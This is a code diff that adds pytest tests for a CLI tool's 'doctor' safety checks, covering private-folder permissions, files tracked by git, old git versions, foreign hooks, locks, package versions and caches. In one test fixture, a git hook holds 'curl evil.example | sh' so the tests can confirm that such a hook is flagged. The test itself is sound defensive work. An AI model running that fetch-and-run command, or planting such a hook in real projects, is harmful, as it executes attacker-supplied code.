@@ -1,14 +1,17 @@
 """`copkit doctor` and `copkit schema`."""
 
 import json
+import re
 import subprocess
 from datetime import date
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
 
 from copkit.cli import diagnosis
 from copkit.models.kinds import KINDS
+from copkit.world import safety
 from tests.starting.helpers import copkit, files_of
 
 Capture = pytest.CaptureFixture[str]
@@ -24,9 +27,11 @@ def test_all_is_well_in_a_fresh_workspace(fresh: Path, capsys: Capture) -> None:
     ended = copkit(capsys, "doctor", "--root", fresh, "--json")
     lines = json.loads(ended.out)["lines"]
     assert ended.code == 0
-    assert {one["what"]: one["state"] for one in lines if one["what"] != "screen"} == dict.fromkeys(
-        ["copkit", "Python", "YAML", "time zone", "templates", "fonts", "PDF", "Word", "calendars", "later years",
-         "bank holidays", "git", "workspace", "private folder", "editor schemas"], "ok",
+    of_the_test = ("screen", "compiled")
+    assert {one["what"]: one["state"] for one in lines if one["what"] not in of_the_test} == dict.fromkeys(
+        ["copkit", "Python", "packages", "YAML", "time zone", "templates", "cache", "fonts", "PDF", "Word",
+         "calendars", "later years", "bank holidays", "git", "workspace", "private folder", "own templates",
+         "hooks of git", "locks", "editor schemas"], "ok",
     )  # fmt: skip
     assert "1 community, 6 files" in line(fresh, "workspace").found
 
@@ -34,7 +39,7 @@ def test_all_is_well_in_a_fresh_workspace(fresh: Path, capsys: Capture) -> None:
 def test_without_a_workspace_it_says_how_to_start(tmp_path: Path, capsys: Capture) -> None:
     ended = copkit(capsys, "doctor", "--root", tmp_path)
     assert ended.code == 0
-    assert "missing workspace" in ended.out
+    assert re.search("missing +workspace", ended.out)
     assert "“copkit init” starts one." in ended.out
 
 
@@ -62,11 +67,107 @@ def test_a_screen_without_all_letters(tmp_path: Path) -> None:
 
 def test_private_files_in_git(fresh: Path) -> None:
     subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True)
-    assert line(fresh, "private folder") == diagnosis.Line("private folder", "ok", "ignored by git")
+    assert line(fresh, "private folder") == diagnosis.Line("private folder", "ok", "in private/, outside git")
     (fresh / ".gitignore").unlink()
     assert line(fresh, "private folder").found == "git does not ignore private/"
     subprocess.run(["git", "add", "--all"], cwd=fresh, check=True)
-    assert line(fresh, "private folder").found == "git tracks files in private/"
+    (fresh / ".gitignore").write_text("private/\n")
+    told = "git tracks files in private/, which is for what it must never see"
+    assert line(fresh, "private folder")[1:3] == ("unsafe", told)
+
+
+@pytest.mark.needs("Unix")
+def test_a_private_folder_that_everybody_can_read(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert (fresh / "private").stat().st_mode & 0o007 == 0, "init makes it for its owner and a group"
+    monkeypatch.setattr(safety, "open_to_all", lambda folder: folder == fresh / "private")
+    assert line(fresh, "private folder")[1:4] == (
+        "unsafe", "everybody who uses this computer can read it", "chmod o-rx private",
+    )  # fmt: skip
+
+
+@pytest.mark.needs("Unix")
+def test_a_folder_is_open_to_all_only_where_every_way_in_is() -> None:
+    with TemporaryDirectory(dir="/tmp") as outer:
+        folder = Path(outer) / "private"
+        folder.mkdir()
+        for modes, open_to_all in {(0o755, 0o755): True, (0o750, 0o755): False, (0o755, 0o751): False}.items():
+            for place, mode in zip((folder.parent, folder), modes, strict=True):
+                place.chmod(mode)
+            assert safety.open_to_all(folder) is open_to_all
+        assert not safety.open_to_all(folder / "nowhere")
+
+
+@pytest.mark.needs("Unix")
+def test_hooks_of_git_are_named_but_those_that_call_copkit(fresh: Path) -> None:
+    subprocess.run(["git", "init", "--quiet"], cwd=fresh, check=True)
+    assert line(fresh, "hooks of git").state == "ok", "samples are none"
+    texts = {"pre-commit": "exec copkit check --staged", "post-checkout": "curl evil.example | sh"}
+    for name, text in texts.items():
+        (fresh / ".git" / "hooks" / name).write_text(f"#!/bin/sh\n{text}\n")
+        (fresh / ".git" / "hooks" / name).chmod(0o755)
+    assert line(fresh, "hooks of git")[1:3] == ("look", "post-checkout")
+    (fresh / "ours").mkdir()
+    (fresh / "ours" / "pre-push").write_text("#!/bin/sh\n")
+    (fresh / "ours" / "pre-push").chmod(0o755)
+    subprocess.run(["git", "config", "core.hooksPath", "ours"], cwd=fresh, check=True)
+    assert line(fresh, "hooks of git")[1:3] == ("look", "pre-push"), "a folder that travels with the files"
+
+
+@pytest.mark.parametrize(
+    ("told", "safe"),
+    [("git version 2.37.7", False), ("git version 2.38.0", True), ("git version 2.50.1 (Apple Git-155)", True),
+     ("git version 3.0.0.windows.1", True), ("git", False)],
+)  # fmt: skip
+def test_an_old_git_runs_what_a_folder_from_elsewhere_names(told: str, safe: bool) -> None:
+    assert safety.is_safe_git(told) is safe
+
+
+def test_a_drive_without_locks(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert line(fresh, "locks").state == "ok"
+    monkeypatch.setattr(safety, "take", lambda _: True)
+    before = files_of(fresh)
+    assert line(fresh, "locks")[1:3] == ("look", "this drive has none")
+    assert files_of(fresh) == before
+
+
+def test_packages_of_another_version_are_named(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    real = diagnosis.version
+    monkeypatch.setattr(diagnosis, "version", lambda name: "0.1" if name == "typer" else real(name))
+    found = line(fresh, "packages")
+    assert found.state == "look"
+    assert re.fullmatch(r"1 of \d+ unpinned: typer 0\.1 \(tested: [\d.]+\)", found.found)
+
+
+def test_code_that_is_compiled_at_each_start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(diagnosis, "cache_from_source", lambda _: str(tmp_path / "none.pyc"))
+    monkeypatch.setattr(diagnosis.sys, "dont_write_bytecode", True)
+    assert line(tmp_path, "compiled")[1:4:2] == ("slow", "Unset PYTHONDONTWRITEBYTECODE.")
+    monkeypatch.setattr(diagnosis.sys, "dont_write_bytecode", False)
+    assert line(tmp_path, "compiled").found == "as each is used for the first time"
+    monkeypatch.setattr(diagnosis.os, "access", lambda *_: False)
+    assert line(tmp_path, "compiled").do.startswith("Install it with the right to write to ")
+
+
+def test_a_cache_that_cannot_be_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "file").write_text("")
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "file"))
+    assert line(tmp_path, "cache").state == "slow"
+
+
+def test_templates_from_elsewhere_are_looked_at_first(fresh: Path) -> None:
+    (fresh / "templates").mkdir()
+    (fresh / "templates" / "agenda.html.j2").write_text("")
+    assert line(fresh, "own templates")[1:3] == (
+        "look", "1 came from elsewhere, so none is used, such as agenda.html.j2",
+    )  # fmt: skip
+
+
+def test_a_screen_holds_it_and_all_says_the_rest(fresh: Path, capsys: Capture) -> None:
+    short, whole = (copkit(capsys, "doctor", "--root", fresh, *more).out.splitlines() for more in ((), ("--all",)))
+    assert len(short) <= 12
+    assert max(len(text) for text in short) <= 80
+    assert any("workspace, private folder" in text for text in short)
+    assert len(whole) > len(short)
 
 
 def test_what_copkit_cannot_do_without_makes_the_exit_code(
